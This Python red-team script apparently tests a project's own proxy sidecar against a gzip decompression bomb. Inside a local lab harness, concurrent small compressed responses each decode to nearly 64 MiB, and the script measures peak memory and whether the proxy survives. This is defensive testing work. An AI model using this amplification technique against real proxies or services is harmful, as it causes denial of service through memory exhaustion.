"""Hostile upstream: N concurrent gzip responses, each decoding to just under the 64 MiB
per-response bound (~64 KiB on the wire each). The sidecar buffers and decodes each fully;
nothing bounds the total, so RSS grows with N.

Run: .venv/bin/python -m redteam.proxy.gzip_amplification [N]
"""
from __future__ import annotations

import sys
import threading
import time
import zlib

from redteam.proxy.harness import Lab, recv_all

N = int(sys.argv[1]) if len(sys.argv) > 1 else 6
DECODED = 64 * 1024 * 1024 - 1024


def gz(n: int) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\0" * (1 << 20)
    out = []
    left = n
    while left:
        take = min(left, len(chunk))
        out.append(c.compress(chunk[:take]))
        left -= take
    out.append(c.flush())
    return b"".join(out)


def main():
    body = gz(DECODED)
    resp = (b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(body)) + body
    small = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok"
    lab = Lab(respond=lambda h: small if b"/v1/small" in h else resp)
    peak = [0]
    stop = threading.Event()

    def watch():
        while not stop.is_set():
            peak[0] = max(peak[0], lab.rss_kib())
            time.sleep(0.02)

    threading.Thread(target=watch, daemon=True).start()
    results = []

    def one(i):
        try:
            s, _ = lab.connect_tunnel(f"api.openai.com:{lab.up.port}", timeout=60)
            s.sendall(f"GET /v1/x{i} HTTP/1.1\r\nHost: api.openai.com:{lab.up.port}\r\nConnection: close\r\n\r\n".encode())
            raw = recv_all(s, 60, limit=10**9)
            results.append(len(raw))
            s.close()
        except Exception as e:  # noqa: BLE001
            results.append(repr(e))

    try:
        print(f"wire body {len(body)} bytes, decodes to {DECODED} bytes; baseline RSS {lab.rss_kib() // 1024} MiB")
        ts = [threading.Thread(target=one, args=(i,)) for i in range(N)]
        t0 = time.monotonic()
        for t in ts:
            t.start()
        time.sleep(2)
        for k in range(3):
            p0 = time.monotonic()
            s, _ = lab.connect_tunnel(f"api.openai.com:{lab.up.port}", timeout=60)
            s.sendall(f"GET /v1/small HTTP/1.1\r\nHost: api.openai.com:{lab.up.port}\r\nConnection: close\r\n\r\n".encode())
            r = recv_all(s, 60)
            s.close()
            print(f"  probe {k}: small allowed request answered {r[:15]!r} in {time.monotonic() - p0:.2f}s")
        for t in ts:
            t.join(120)
        print(f"{N} concurrent responses done in {time.monotonic() - t0:.1f}s; gateway got {results}")
        print(f"peak RSS {peak[0] // 1024} MiB (brief's ceiling 256 MiB); alive={lab.sc.proc.poll() is None}")
    finally:
        stop.set()
        lab.close()


if __name__ == "__main__":
    main()
